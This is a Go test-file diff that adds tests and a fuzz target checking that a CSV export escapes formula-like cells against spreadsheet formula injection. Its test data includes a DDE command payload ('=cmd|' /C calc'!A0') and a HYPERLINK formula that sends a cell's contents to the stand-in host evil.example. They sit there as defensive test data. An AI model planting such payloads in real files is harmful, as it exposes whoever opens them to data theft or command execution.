@@ -68,3 +68,95 @@ func TestWriter(t *testing.T) {
 		t.Errorf("empty export = %q, %v; want the header alone", b.String(), err)
 	}
 }
+
+// TestCellsASpreadsheetWouldRun: a value a spreadsheet would take for a
+// formula (=, +, -, @, a tab or a carriage return first, after any spaces)
+// is written after an apostrophe, which the spreadsheet shows as text;
+// Value gives every value back as it was, apostrophes of its own included;
+// a hand-typed cell is its own value unless it escapes a formula the same
+// way.
+func TestCellsASpreadsheetWouldRun(t *testing.T) {
+	for _, tc := range []struct{ value, cell string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"details")`, `'=HYPERLINK("http://evil.example/?"&A1,"details")`},
+		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{"+86 138", "'+86 138"},
+		{"-1", "'-1"},
+		{"@SUM(1+1)", "'@SUM(1+1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"  =1", "'  =1"},
+		{"'=1", "''=1"},
+		{"''=1", "'''=1"},
+		{"' =1", "'' =1"},
+		{"", ""},
+		{"plain", "plain"},
+		{"a=b", "a=b"},
+		{"'quoted'", "'quoted'"},
+		{"'", "'"},
+		{"不想要了", "不想要了"},
+		{"2026-12-02T06:00:00.005Z", "2026-12-02T06:00:00.005Z"},
+	} {
+		if got := Cell(tc.value); got != tc.cell {
+			t.Errorf("Cell(%q) = %q; want %q", tc.value, got, tc.cell)
+		}
+		if got := Value(tc.cell); got != tc.value {
+			t.Errorf("Value(%q) = %q; want %q", tc.cell, got, tc.value)
+		}
+	}
+	// Typed by hand: a formula stays what it is (the request's text); an
+	// apostrophe before one is a spreadsheet's text marker.
+	for cell, want := range map[string]string{"=1+1": "=1+1", "'@x": "@x", "'plain": "'plain"} {
+		if got := Value(cell); got != want {
+			t.Errorf("Value(%q) = %q; want %q", cell, got, want)
+		}
+	}
+}
+
+// TestWriterEscapesFormulas: every cell of an export row goes through
+// Cell, and a CSV reader reads the escaped cell.
+func TestWriterEscapesFormulas(t *testing.T) {
+	c := casestore.Case{ID: 9, Platform: casestore.PlatformTaobao, OrderID: "=1+1", SubOrderID: "@2", State: "requested",
+		OpenedBy: "-cmd", Request: json.RawMessage(`{"goodsStatus":"1","reasonId":1004,"reason":"+r","description":"=HYPERLINK(\"http://e.example\")","vouchers":["=a.jpg","b.jpg"]}`)}
+	var b bytes.Buffer
+	w := NewWriter(&b)
+	if err := w.Write(c); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&b).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("read back: %v, %d records", err, len(recs))
+	}
+	got := map[string]string{}
+	for i, col := range recs[0] {
+		got[col] = recs[1][i]
+		if formulaLike(recs[1][i]) && !strings.HasPrefix(recs[1][i], "'") {
+			t.Errorf("column %s: %q would run in a spreadsheet", col, recs[1][i])
+		}
+	}
+	for col, want := range map[string]string{"order": "'=1+1", "sub-order": "'@2", "id": "'-cmd", "reason": "'+r",
+		"description": `'=HYPERLINK("http://e.example")`, "voucher": "'=a.jpg;b.jpg", "state": "requested"} {
+		if got[col] != want {
+			t.Errorf("%s = %q; want %q", col, got[col], want)
+		}
+	}
+}
+
+// FuzzCell: Value undoes Cell for every string, and no cell Cell writes
+// begins (after spaces) with what a spreadsheet runs.
+func FuzzCell(f *testing.F) {
+	for _, s := range []string{"", "=1", "'=1", "''", " -x", "\t", "plain", "'", "@", "+"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, v string) {
+		c := Cell(v)
+		if got := Value(c); got != v {
+			t.Fatalf("Value(Cell(%q)) = %q", v, got)
+		}
+		if first := strings.TrimLeft(c, " "); first != "" && strings.ContainsRune("=+-@\t\r", rune(first[0])) {
+			t.Fatalf("Cell(%q) = %q begins with a formula", v, c)
+		}
+	})
+}
